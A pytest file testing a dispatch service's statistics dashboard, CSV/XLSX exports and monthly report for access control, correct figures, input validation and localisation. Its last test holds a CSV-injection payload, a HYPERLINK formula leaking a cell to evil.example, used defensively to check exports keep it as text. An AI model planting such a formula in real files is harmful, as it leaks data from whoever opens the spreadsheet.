"""The dashboard (统计分析), its exports and the monthly report (月度报告) as a supervisor
uses them: the right roles only, the service's figures in the cells and in the files, bad
queries answered with a message, nothing loaded from the internet."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import openpyxl
import pytest

from app.models import utcnow
from dispatch import stats

NOV = {"period": "custom", "from": "2026-11-01", "to": "2026-11-30"}
START, END = date(2026, 11, 1), date(2026, 11, 30)


@pytest.fixture
def cases(make_case, now):
    """Five cases of November: water closed, replied, dispatched; gas and roads dispatched;
    one water case of October for the comparison."""
    made = [
        make_case("closed"),
        make_case("replied"),
        make_case("dispatched", district="西城区"),
        make_case("dispatched", category="gas.leak", description="楼道燃气味"),
        make_case("dispatched", category="roads.pothole", district="南区"),
    ]
    make_case("closed", at=now - timedelta(days=30))
    return made


def cell(html: str, row: str, key: str) -> str:
    """The text of one cell of the figures table (without its change)."""
    found = re.search(
        rf'<tr data-row="{re.escape(row)}".*?<td class="num" data-key="{key}">([^<]*)<',
        html,
        re.S,
    )
    assert found, (row, key)
    return found.group(1)


def percent(value: float | None) -> str:
    return "—" if value is None else f"{value * 100:.1f}%"


def external_urls(html: str) -> list[str]:
    return re.findall(r'(?:src|href)\s*=\s*["\']?\s*(https?://[^"\' >]*)', html, re.I)


@pytest.mark.parametrize("username", ["supervisor1", "admin"])
def test_supervisors_and_admins_see_the_service_figures(login, cases, username):
    page = login(username).get("/stats/", query_string={**NOV, "by": "department"})
    assert page.status_code == 200
    html = page.text
    report = stats.report(START, END, now=utcnow(), by="department")
    water = next(r.figures for r in report.rows if r.key == "water")
    assert cell(html, "water", "received") == str(water.received) == "3"
    assert cell(html, "water", "closed") == str(water.closed) == "1"
    assert cell(html, "water", "closure_rate") == percent(water.closure_rate) == "33.3%"
    assert cell(html, "total", "received") == str(report.totals.received) == "5"
    assert cell(html, "total", "replied") == str(report.totals.replied)
    assert cell(html, "total", "on_time_rate") == percent(report.totals.on_time_rate)
    assert 'id="chart-series"' in html and 'id="chart-departments"' in html
    assert "统计口径" in html and "统计期间登记的工单数。" in html  # the definitions, in Chinese
    assert "热点" in html or "Hotspots" in html
    assert external_urls(html) == []


def test_the_previous_period_is_beside_the_figures(login, cases):
    html = login("supervisor1").get("/stats/", query_string={**NOV, "by": "department"}).text
    # October had one water case, closed: November's 3 received are ▲ 2
    row = re.search(r'<tr data-row="water".*?</tr>', html, re.S).group(0)
    assert re.search(r'data-key="received">3<small class="change">▲ 2</small>', row)
    assert "2026-10-02" in html  # the previous period of the same length


def test_other_groupings_and_named_periods(login, cases):
    client = login("supervisor1")
    for by in stats.GROUPINGS:
        page = client.get("/stats/", query_string={**NOV, "by": by})
        assert page.status_code == 200, by
        assert cell(page.text, "total", "received") == "5"
    by_day = client.get("/stats/", query_string={**NOV, "by": "day"}).text
    assert cell(by_day, "2026-11-23", "received") == "5"
    for period in ("this_month", "last_month", "this_year"):
        assert client.get("/stats/", query_string={"period": period}).status_code == 200


def test_a_handler_sees_only_their_department(login, cases):
    html = login("water1").get("/stats/", query_string={**NOV, "by": "category"}).text
    assert cell(html, "total", "received") == "3"  # of 5: the gas and roads cases are not theirs
    assert "gas.leak" not in html
    assert 'id="chart-departments"' not in html
    assert "Hotspots" not in html and "热点" not in html
    monthly = login("water1").get("/stats/monthly", query_string={"month": "2026-11"}).text
    assert cell(monthly, "total", "received") == "3" and "热点" not in monthly
    exported = login("water1").get("/stats/export.csv", query_string={**NOV, "by": "category"})
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert rows[-1][:2] == ["合计", "3"]


PAGES = ("/stats/", "/stats/monthly", "/stats/export.csv", "/stats/export.xlsx")


def test_strangers_are_sent_to_log_in(client, cases):
    for path in PAGES:
        answer = client.get(path)
        assert answer.status_code == 302 and "/login" in answer.headers["Location"]


def test_operators_are_refused(login, cases):
    operator = login("operator1")
    for path in PAGES:
        answer = operator.get(path)
        assert answer.status_code == 403, path
        assert "受理量" not in answer.text


def test_the_navigation_links_the_dashboard_for_those_who_may_see_it(login, db):
    assert 'href="/stats/"' in login("supervisor1").get("/cases/").text
    assert 'href="/stats/"' in login("admin").get("/cases/").text
    assert 'href="/stats/"' not in login("operator1").get("/cases/").text


def test_csv_export_has_the_tables_numbers(login, cases):
    answer = login("supervisor1").get("/stats/export.csv", query_string={**NOV, "by": "department"})
    assert answer.status_code == 200
    assert "2026-11-01_2026-11-30_by-department.csv" in answer.headers["Content-Disposition"]
    assert answer.data.startswith(b"\xef\xbb\xbf")  # the BOM, for Excel
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert rows[0][:4] == ["承办部门", "受理量", "办结量", "办结率"]
    report = stats.report(START, END, now=utcnow(), by="department")
    water = next(r for r in report.rows if r.key == "water")
    line = next(r for r in rows if r[0] == water.label)
    assert line[1:4] == ["3", "1", "33.33%"]
    assert rows[-1][0] == "合计" and rows[-1][1] == str(report.totals.received)
    assert len(rows) == 1 + len(report.rows) + 1


def test_xlsx_export_has_the_tables_numbers(login, cases):
    answer = login("supervisor1").get("/stats/export.xlsx", query_string={**NOV, "by": "category"})
    assert answer.status_code == 200
    assert "by-category.xlsx" in answer.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    sheet = book.worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(min_row=3, values_only=True)]
    assert rows[0][1] == "受理量"
    report = stats.report(START, END, now=utcnow(), by="category")
    for row in report.rows:
        line = next(r for r in rows if r[0] == row.label)
        assert line[1] == row.figures.received
        assert line[2] == row.figures.closed
        assert line[3] == row.figures.closure_rate
    assert rows[-1][0] == "合计" and rows[-1][1] == 5
    assert "统计口径" in [c.value for c in book.worksheets[1]["A"]]


@pytest.mark.parametrize(
    "query, field",
    [
        ({"period": "custom", "from": "2026-13-01", "to": "2026-11-30"}, "from"),
        ({"period": "custom", "from": "2026-11-01", "to": "yesterday"}, "to"),
        ({"period": "custom", "from": "2026-11-30", "to": "2026-11-01"}, "from"),
        ({"period": "custom", "from": "9999-12-31", "to": "9999-12-31"}, "from"),
        ({"period": "custom", "from": "1990-01-01", "to": "2026-11-30"}, "to"),
        ({**NOV, "by": "weekday"}, "by"),
        ({"period": "fortnight"}, "period"),
    ],
)
def test_bad_queries_get_a_message_not_an_error(login, db, query, field):
    client = login("supervisor1")
    for path in ("/stats/", "/stats/export.csv", "/stats/export.xlsx"):
        answer = client.get(path, query_string=query)
        assert answer.status_code == 400, (path, answer.status_code)
        assert f'data-field="{field}"' in answer.text
        assert 'class="flash error"' in answer.text


@pytest.mark.parametrize("month", ["2026-13", "november", "0000-01", "2026-1"])
def test_a_bad_month_gets_a_message(login, db, month):
    answer = login("supervisor1").get("/stats/monthly", query_string={"month": month})
    assert answer.status_code == 400
    assert 'data-field="month"' in answer.text


def test_an_unknown_export_format_is_not_found(login, db):
    assert login("supervisor1").get("/stats/export.pdf").status_code == 404


def test_the_monthly_report(login, cases):
    html = login("supervisor1").get("/stats/monthly", query_string={"month": "2026-11"}).text
    report = stats.report(START, END, now=utcnow())
    october = stats.report(date(2026, 10, 1), date(2026, 10, 31), now=utcnow())
    now_cell = re.search(r'<tr data-row="received">.*?class="num now">(\d+)<', html, re.S)
    before = re.search(r'<tr data-row="received">.*?class="num before">(\d+)<', html, re.S)
    assert now_cell.group(1) == str(report.totals.received) == "5"
    assert before.group(1) == str(october.totals.received) == "1"
    assert cell(html, "water", "received") == "3"  # by department
    assert cell(html, "gas.leak", "received") == "1"  # by category
    assert html.count('class="report-section page-break"') >= 3
    assert 'id="chart-categories"' in html and "统计口径" in html
    assert external_urls(html) == []


def test_the_monthly_report_defaults_to_last_month(login, db):
    html = login("admin").get("/stats/monthly").text
    today = utcnow().date()
    last = (today.replace(day=1) - timedelta(days=1)).strftime("%Y-%m")
    assert f'value="{last}"' in html


def test_in_english(login, cases):
    client = login("supervisor1")
    client.get("/lang/en")
    html = client.get("/stats/", query_string={**NOV, "by": "department"}).text
    assert "Closure rate" in html and "Water Supply" in html
    assert "Cases registered in the period." in html
    monthly = client.get("/stats/monthly", query_string={"month": "2026-11"})
    assert monthly.status_code == 200 and "monthly report" in monthly.text


def test_hotspots_of_a_long_period_are_its_last_month(login, cases):
    query = {"period": "custom", "from": "2026-01-01", "to": "2026-11-30"}
    html = login("supervisor1").get("/stats/", query_string=query).text
    assert "2026-10-31 – 2026-11-30" in html
    assert cell(html, "total", "received") == "6"  # the table is the whole period


FORMULA_DISTRICT = '=HYPERLINK("http://evil.example/?leak="&A1,"区")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_a_district_typed_as_a_formula_stays_text_in_the_exports(login, make_case, prefix):
    """A district is free text (the citizens' report too): in a spreadsheet it must not
    become a formula (CSV injection)."""
    district = prefix + FORMULA_DISTRICT[1:]
    make_case("dispatched", district=district)
    query = {**NOV, "by": "district"}
    supervisor = login("supervisor1")
    rows = list(
        csv.reader(io.StringIO(supervisor.get("/stats/export.csv", query_string=query).text))
    )
    assert "'" + district in [row[0] for row in rows]  # a leading quote: Excel shows text
    answer = supervisor.get("/stats/export.xlsx", query_string=query)
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    labels = [c for c in book.worksheets[0]["A"]]
    shown = next(c for c in labels if c.value and "HYPERLINK" in str(c.value))
    assert shown.data_type == "s" and shown.value == district  # a string, not a formula
